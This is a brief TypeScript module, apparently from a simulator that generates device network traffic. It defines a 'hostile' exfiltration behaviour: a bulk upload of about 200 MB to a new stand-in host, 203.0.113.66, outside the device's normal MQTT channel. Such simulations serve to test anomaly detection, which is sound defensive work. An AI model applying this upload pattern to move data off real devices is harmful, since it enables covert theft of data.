import { z } from 'zod';
import { MINUTE } from '#kernel';
import { defineBehavior } from './behavior.ts';
import { forMs, host } from './params.ts';
import { upload } from './upload.ts';

/** A bulk upload past MQTT to a host the device never talked to. */
export const exfiltration = defineBehavior({
  kind: 'hostile',
  summary: 'a bulk upload to a new host',
  params: z.strictObject({
    bytes: z.int().min(1).max(1e12).default(200_000_000),
    forMs: forMs(20 * MINUTE),
    destination: host('203.0.113.66', 443),
  }),
  run: upload,
});
